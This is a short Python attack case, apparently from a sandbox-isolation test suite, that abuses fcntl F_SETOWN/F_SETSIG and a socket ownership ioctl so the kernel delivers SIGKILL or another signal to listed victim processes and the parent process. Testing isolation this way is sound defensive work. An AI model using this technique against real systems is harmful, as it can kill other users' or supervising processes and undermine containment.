# category: signals
# attack: let the kernel send the signal: F_SETOWN and F_SETSIG
# kind: stdin
import fcntl
def own(pid, number):
    reading, writing = os.pipe()
    fcntl.fcntl(reading, fcntl.F_SETOWN, pid)
    fcntl.fcntl(reading, 10, number)
    fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(writing, b"x")
for pid, _ in [*INFO["victims"], [os.getppid(), 0]]:
    for number in (9, 10):
        try:
            own(pid, number)
        except OSError:
            pass
import socket
try:
    a, b = socket.socketpair()
    for pid, _ in INFO["victims"]:
        fcntl.ioctl(a, 0x8901, pid.to_bytes(4, "little"))
        fcntl.fcntl(a, fcntl.F_SETFL, os.O_ASYNC)
        b.send(b"x")
except OSError:
    pass
